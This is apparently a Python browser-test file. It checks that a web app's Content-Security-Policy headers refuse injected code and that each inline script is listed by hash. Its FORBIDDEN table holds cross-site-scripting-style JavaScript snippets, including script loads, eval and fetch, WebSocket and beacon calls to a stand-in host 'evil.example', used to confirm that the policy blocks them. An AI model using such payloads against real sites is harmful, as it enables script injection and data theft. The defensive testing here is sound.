"""What the security headers forbid does not happen; every other browser test shows that nothing misses it."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from hashlib import sha256
from html.parser import HTMLParser

import pytest
from playwright.sync_api import Page

from backviz.program.link import program_text
from tests.browser.asking import ask
from tests.browser.board import SAMPLE
from tests.browser.visitors import Faults
from tools.running_app import PAGES, RunningApp, page_path

# By the directive that forbids it: what a text of somebody else's on our page might do.
FORBIDDEN: Mapping[str, Mapping[str, str]] = {
    "script-src-elem": {
        "a script element": "add('script', { textContent: 'window.ran = true' })",
        "a script of another site": "add('script', { src: 'https://evil.example/a.js' })",
        "a script in its address": "add('script', { src: 'data:text/javascript,window.ran=true' })",
        "a javascript: link": "add('a', { href: 'javascript:void(window.ran = true)' }).click()",
        "an imported text": "import('data:text/javascript,window.ran=true').catch(() => {})",
    },
    "script-src-attr": {
        "a handler": "add('p').innerHTML = '<b id=b onclick=\"window.ran = true\">b</b>'; b.click()",
    },
    "script-src": {
        "a text as code": "eval('window.ran = true')",
        "a function of a text": "new Function('window.ran = true')()",
        "a timer's text": "setTimeout('window.ran = true')",
    },
    "worker-src": {
        "a worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
        "a worker of a file": "new Worker('/static/js/a.js')",
    },
    "connect-src": {
        "a request elsewhere": "fetch('https://evil.example/?p=' + 1).catch(() => {})",
        "a connection elsewhere": "new WebSocket('wss://evil.example/')",
        "a beacon": "navigator.sendBeacon('https://evil.example/', 'week')",
    },
    "img-src": {"a picture of another site": "add('img', { src: 'https://evil.example/a.png' })"},
    "media-src": {"a film of another site": "add('video', { src: 'https://evil.example/a.mp4' })"},
    "style-src-elem": {
        "a style sheet": "add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' })"
    },
    "font-src": {"a font": "new FontFace('a', 'url(https://evil.example/a.woff2)').load().catch(() => {})"},
    "frame-src": {
        "a frame of another site": "add('iframe', { src: 'https://evil.example/' })",
        "our own page in a frame": "add('iframe', { src: '/builder' })",
    },
    "object-src": {"an object": "add('object', { data: 'https://evil.example/a.pdf' })"},
    "base-uri": {"another base": "document.head.append(make('base', { href: '/media/' }))"},
    "form-action": {
        "a form that goes elsewhere": "add('form', { action: 'https://evil.example/' }).submit()",
    },
}
# A test's own call may make code of a text; what it starts later may not.
TRY = """(wanted) => new Promise((done) => {
  const make = (name, given = {}) => Object.assign(document.createElement(name), given);
  const add = (name, given) => document.body.appendChild(make(name, given));
  const seen = [];
  window.ran = false;
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    seen.push(effectiveDirective);
    if (seen.length === wanted) done([seen.sort(), window.ran]);
  });
  setTimeout(() => done([seen.sort(), window.ran]), 5000);
  const tried = ACTS;
  for (const act of tried) setTimeout(() => { try { act(); } catch {} });
})"""


def test_what_a_page_may_not_do_is_refused_and_is_a_fault_in_any_visit(page: Page, faults: Faults) -> None:
    """The policy is the same for every answer, so the barest one shows it."""
    acts = [f"() => {{ {act} }}" for tries in FORBIDDEN.values() for act in tries.values()]
    wanted = sorted(name for name, tries in FORBIDDEN.items() for _ in tries)
    found, has_run = page.evaluate(TRY.replace("ACTS", f"[{', '.join(acts)}]"), len(acts))
    assert found == wanted, "\n".join(faults.seen)
    assert not has_run
    assert {directive for directive in FORBIDDEN if not noted(directive, faults)} == set()
    faults.allow("")


def noted(directive: str, faults: Faults) -> bool:
    return any(f"policy: {directive} refuses" in fault for fault in faults.unexpected())


@pytest.mark.parametrize("path", [*map(page_path, PAGES), f"/builder?p={program_text(SAMPLE)}", "/bulder"])
def test_the_policy_names_each_script_in_a_page_s_html_and_the_html_has_no_other_code(
    server: RunningApp, path: str
) -> None:
    _, headers, body = ask(server.url + path)
    policy = headers["content-security-policy"]
    inline = InlineCode()
    inline.feed(body.decode())
    assert inline.handlers == []
    assert len(inline.scripts) == (0 if path == "/bulder" else 3)
    for script in inline.scripts:
        assert base64.b64encode(sha256(script.encode()).digest()).decode() in policy


class InlineCode(HTMLParser):
    """The code that stands in a page's HTML: scripts, and attributes that hold some."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self.is_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what a tag holds or begins."""
        given = dict(attrs)
        self.is_script = tag == "script" and "src" not in given and given.get("type") in {None, "module"}
        self.handlers += [name for name in given if name.startswith("on")]
        self.handlers += [value for value in given.values() if value and value.startswith("javascript:")]

    def handle_data(self, data: str) -> None:
        """Note the text of a script."""
        if self.is_script:
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        """End a script."""
        self.is_script = False
